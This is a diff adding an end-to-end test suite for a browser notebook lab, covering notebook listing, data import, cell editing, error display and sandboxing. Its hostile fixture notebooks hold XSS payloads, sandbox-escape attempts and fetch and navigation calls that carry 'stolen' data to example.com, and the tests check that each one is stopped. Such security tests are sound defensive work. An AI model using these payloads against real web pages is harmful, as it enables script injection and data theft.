@@ -1,0 +1,267 @@
+import { readFile } from 'node:fs/promises';
+import type { Browser, Locator } from 'playwright-core';
+import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
+import { seriousViolations } from './harness/axe.ts';
+import { launch } from './harness/browser.ts';
+import { serveLab, type ServedLab } from './harness/lab.ts';
+import { NotebookReader } from './harness/notebook.ts';
+import { takeSlow } from './harness/slow.ts';
+import { visit, type Visit } from './harness/visit.ts';
+
+/** What a hostile notebook tries; each line of its output says what came of one attempt. */
+const HOSTILE = `<!doctype html>
+<img src="x" onerror="window.hostile = 'in the page'">
+<script>window.hostile = 'in the page'</script>
+<notebook theme="air">
+  <title>&lt;img src=x onerror="window.hostile = 'title'"&gt;</title>
+  <script id="1" type="text/html">
+    <img src="data:," onerror="document.body.dataset.html = 'ran'"><svg onload="window.hostile = 1"></svg>
+  </script>
+  <script id="2" type="module">
+    const attempt = async (name, run) => { try { return name + ': ' + (await run()); } catch { return name + ': stopped'; } };
+    const attempts = await Promise.all([
+      attempt('page', () => { parent.parent.hostile = 1; return 'reached'; }),
+      attempt('document', () => parent.document.title),
+      attempt('storage', () => localStorage.length),
+      attempt('database', () => indexedDB.databases().then(() => 'reached')),
+      attempt('cookies', () => document.cookie + 'reached'),
+      attempt('network', () => fetch('https://example.com/?stolen').then(() => 'reached')),
+      attempt('own host', () => fetch('./models/').then(() => 'reached')),
+      attempt('image', () => new Promise((done, fail) => { const i = new Image(); i.onload = () => done('reached'); i.onerror = fail; i.src = 'https://example.com/a.png'; })),
+      attempt('worker', () => new Promise((done, fail) => { const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); w.onmessage = () => done('reached'); w.onerror = fail; })),
+      attempt('window', () => (open('https://example.com/') ? 'reached' : Promise.reject())),
+      attempt('keys', () => lab.keys()),
+      attempt('prototype', () => lab.constructor.constructor('return parent.document.title')())
+    ]);
+    for (const line of attempts) display(html\`<p>\${line}\`);
+  </script>
+  <script id="3" type="module">
+    top.location = 'https://example.com/?moved';
+  </script>
+</notebook>`;
+
+const ASKING = `<!doctype html>
+<notebook theme="air">
+  <title>Asking</title>
+  <script id="1" type="module">
+    const told = await lab.conversations();
+    display(html\`<p>\${told.length} conversations, first message: \${told[0]?.messages[0]?.text}\`);
+  </script>
+</notebook>`;
+
+/** Tries to carry something away in its own address. */
+const LEAVING = `<!doctype html>
+<notebook theme="air">
+  <title>Leaving</title>
+  <script id="1" type="module">
+    location.href = 'https://example.com/?carried=away';
+  </script>
+</notebook>`;
+
+describe('notebooks', () => {
+  let browser: Browser;
+  let lab: ServedLab;
+  let guest: Visit;
+  let reader: NotebookReader;
+
+  beforeAll(async () => {
+    browser = await launch({ webgpu: false });
+    lab = await serveLab();
+    // One visit for all, so that the model is loaded once.
+    guest = await visit(browser, lab.url);
+    reader = new NotebookReader(guest.page);
+  });
+  afterAll(async () => {
+    await browser.close();
+    await lab.close();
+  });
+  afterEach(() => {
+    guest.errors.length = 0;
+    guest.failures.length = 0;
+  });
+
+  const button = (name: string): Locator => reader.frame.getByRole('button', { name });
+
+  /** Opens a notebook and waits until every cell has a value. */
+  async function runs(name: string): Promise<void> {
+    await reader.open(lab.url, name);
+    await reader.settled();
+  }
+
+  async function expectSound(): Promise<void> {
+    expect(await reader.failures()).toEqual([]);
+    expect(guest.errors).toEqual([]);
+    expect(guest.failures).toEqual([]);
+    expect([...guest.origins]).toEqual([new URL(lab.url).origin]);
+  }
+
+  it('are listed, and nothing serious is found by axe', async () => {
+    await guest.page.goto(`${lab.url}#/notebooks`);
+    const list = guest.page.getByRole('region', { name: 'With the lab' }).getByRole('link');
+    await expect.poll(() => list.count()).toBe(7);
+    expect(await seriousViolations(guest.page)).toEqual([]);
+  });
+
+  it('The paper, live: computes its tables and points at what can’t hold together', async () => {
+    await runs('the-paper-live');
+    await expectSound();
+    const table = reader.frame.getByRole('row', { name: /ESConv \(paper\)/ });
+    expect(await table.innerText()).toMatch(/29\.8\s+29\.57\s+off by 0\.23/);
+    expect(await reader.frame.getByRole('row', { name: /Built-in/ }).innerText()).toContain('72');
+  });
+
+  it('Bring your own data: reads the built-in set, then a file that is dropped', async () => {
+    await runs('bring-your-own-data');
+    await expectSound();
+    expect(await reader.cell(4).innerText()).toContain('72 dialogues');
+    const lines = ['{"messages":[{"role":"user","content":"I feel low."},{"role":"assistant","content":"I am here."}]}', '{"messages": 3}'];
+    await reader.frame.getByLabel('Your data').setInputFiles({ name: 'chats.jsonl', mimeType: 'application/json', buffer: Buffer.from(lines.join('\n')) });
+    await expect.poll(() => reader.cell(4).innerText(), { timeout: 30_000 }).toMatch(/1 dialogues, 1 records left out/);
+    expect(await reader.cell(4).innerText()).toContain('chats.jsonl');
+  });
+
+  it('Loss curves: draws a log that is dropped in', async () => {
+    await runs('loss-curves');
+    await expectSound();
+    const csv = ['Wall time,Step,Value', ...Array.from({ length: 30 }, (_, i) => `${i},${i + 1},${3 - i / 20}`)].join('\n');
+    await reader.frame.getByLabel('Your logs').setInputFiles({ name: 'board.csv', mimeType: 'text/csv', buffer: Buffer.from(csv) });
+    await expect.poll(() => reader.cell(9).innerText(), { timeout: 30_000 }).toMatch(/board\.csv\s+30\s+1\.550/);
+    await expectSound();
+  });
+
+  it('Compression playground: an edit of a cell changes its dependants, is kept, and can be taken back', async () => {
+    await runs('compression-playground');
+    await expectSound();
+    const tokens = async (): Promise<number> => Number(/Raw\s+\d+\s+\d+\s+(\d+)/.exec(await reader.cell(8).innerText())?.[1]);
+    const before = await tokens();
+    await reader.rewrite(4, 'const budget = 128;');
+    await expect.poll(tokens, { timeout: 30_000 }).toBeLessThanOrEqual(128 - 24);
+    expect(before).toBeGreaterThan(128 - 24);
+    const undo = guest.page.getByRole('button', { name: 'Back to the original' });
+    await undo.waitFor();
+
+    const download = guest.page.waitForEvent('download');
+    await guest.page.getByRole('button', { name: 'Export' }).click();
+    expect(await readFile(await (await download).path(), 'utf8')).toContain('const budget = 128;');
+
+    await guest.page.reload();
+    await reader.settled();
+    expect(await tokens()).toBeLessThanOrEqual(128 - 24);
+    await undo.click();
+    await expect.poll(tokens, { timeout: 30_000 }).toBe(before);
+    expect(await undo.count()).toBe(0);
+    await expectSound();
+  });
+
+  it('show an error where it happens, and go on', async () => {
+    await guest.page.goto(`${lab.url}#/notebooks`);
+    await guest.page.getByRole('button', { name: 'New notebook' }).click();
+    await reader.cells.nth(1).waitFor();
+    await reader.settled();
+    expect(await reader.cell(2).innerText()).toContain('I so tired');
+    await reader.rewrite(2, 'const half = ;');
+    await expect.poll(() => reader.failures()).toEqual([expect.stringContaining('SyntaxError')]);
+    await reader.frame.getByRole('group', { name: 'Add a cell after cell 2' }).getByRole('button', { name: 'Add Markdown after cell 2' }).focus();
+    await guest.page.keyboard.press('Enter');
+    await guest.page.keyboard.type('*Still* here');
+    await guest.page.keyboard.press('Shift+Enter');
+    await expect.poll(() => reader.cell(3).locator('em').innerText()).toBe('Still');
+  });
+
+  /** Brings a notebook in from a file, as a person who starts at the list. */
+  async function bring(by: Visit, name: string, html: string): Promise<NotebookReader> {
+    await by.page.goto(`${lab.url}#/notebooks`);
+    const chooser = by.page.waitForEvent('filechooser');
+    await by.page.getByRole('button', { name: 'Choose files' }).click();
+    await (await chooser).setFiles({ name, mimeType: 'text/html', buffer: Buffer.from(html) });
+    const brought = new NotebookReader(by.page);
+    await brought.cells.last().waitFor();
+    return brought;
+  }
+
+  it('from a file do not run before the person says so, and then reach nothing', async () => {
+    const stranger = await visit(browser, lab.url);
+    const answered: string[] = [];
+    stranger.context.on('response', (response) => answered.push(new URL(response.url()).hostname));
+    const { page } = stranger;
+    const brought = await bring(stranger, 'hostile.html', HOSTILE);
+    expect(await page.getByRole('heading', { level: 1 }).innerText()).toContain('<img src=x');
+    expect(await brought.states()).toEqual(['idle', 'idle', 'idle']);
+    expect(await page.evaluate(() => 'hostile' in window)).toBe(false);
+    expect(await brought.frame.locator('body').getAttribute('data-html')).toBeNull();
+
+    await page.getByRole('button', { name: 'Run this notebook' }).click();
+    await expect.poll(() => brought.cell(2).locator('p').count(), { timeout: 30_000 }).toBe(12);
+    const outcomes = await brought.cell(2).locator('p').allInnerTexts();
+    expect(outcomes.filter((line) => !line.endsWith(': stopped'))).toEqual([]);
+
+    await bring(stranger, 'leaving.html', LEAVING);
+    await page.getByRole('button', { name: 'Run this notebook' }).click();
+    await expect.poll(() => stranger.errors.join('\n'), { timeout: 30_000 }).toMatch(/frame-src|default-src/);
+    expect(page.url()).toContain('#/notebooks/');
+    expect(stranger.context.pages()).toHaveLength(1);
+    expect(await page.evaluate(() => 'hostile' in window)).toBe(false);
+    expect([...new Set(answered)].filter((host) => host !== '127.0.0.1' && host !== '')).toEqual([]);
+    await stranger.close();
+  });
+
+  it('ask before they read conversations', async () => {
+    const asking = await bring(guest, 'asking.html', ASKING);
+    const run = guest.page.getByRole('button', { name: 'Run this notebook' });
+    const dialog = guest.page.getByRole('dialog', { name: 'Allow this notebook?' });
+    await run.click();
+    await dialog.getByRole('button', { name: 'Don’t allow' }).click();
+    await expect.poll(() => asking.failures()).toEqual([expect.stringContaining('You did not allow')]);
+
+    await guest.page.reload();
+    await run.click();
+    await dialog.getByRole('button', { name: 'Allow', exact: true }).click();
+    await expect.poll(() => asking.cell(1).innerText()).toMatch(/\d+ conversations/);
+  });
+
+  describe('with the embedded model', () => {
+    it('Which words matter: measures the loss without each part of speech', async () => {
+      await runs('which-words-matter');
+      await reader.frame.getByText('11 of 11 measured.').waitFor({ timeout: 240_000 });
+      await expectSound();
+      const losses = await reader.cell(10).getByRole('row').evaluateAll((rows) => rows.slice(1).map((row) => Number(row.lastElementChild?.previousElementSibling?.textContent)));
+      expect(losses).toHaveLength(11);
+      for (const loss of losses) expect(loss).toBeGreaterThan(0.5);
+      expect(new Set(losses).size).toBeGreaterThan(3);
+    });
+
+    it('Judging the judge: asks in both orders', async () => {
+      await runs('judging-the-judge');
+      await expectSound();
+      await button('Compare').click();
+      await expect.poll(() => reader.cell(9).getByRole('row').count(), { timeout: 240_000 }).toBe(3);
+      expect(await reader.cell(9).innerText()).toMatch(/Of 4 answers \d name a reply/);
+      await expectSound();
+    });
+
+    it('Compression playground: answers from what fits', async () => {
+      await runs('compression-playground');
+      await reader.rewrite(4, 'const budget = 96;');
+      await button('Answer under all three').click();
+      await expect.poll(() => reader.cell(15).getByRole('row').count(), { timeout: 240_000 }).toBe(4);
+      await expectSound();
+    });
+
+    it('Fine-tune in this tab: lowers the loss', async () => {
+      await runs('fine-tune-in-this-tab');
+      await expectSound();
+      await button('Train').click();
+      await expect.poll(() => reader.cell(11).innerText(), { timeout: 400_000, interval: 1000 }).toContain('The mean loss of a pass went from');
+      const [, from, to] = /went from ([\d.]+) to ([\d.]+) nats/.exec(await reader.cell(11).innerText()) ?? [];
+      expect(Number(to)).toBeLessThan(Number(from));
+      await expectSound();
+    });
+
+    it.skipIf(!takeSlow)('Judging the judge: scores replies (SOLACE_SLOW=1 takes this journey)', async () => {
+      await runs('judging-the-judge');
+      await button('Judge').click();
+      await expect.poll(() => reader.cell(14).getByRole('row').count(), { timeout: 460_000 }).toBe(4);
+      await expectSound();
+    });
+  });
+});
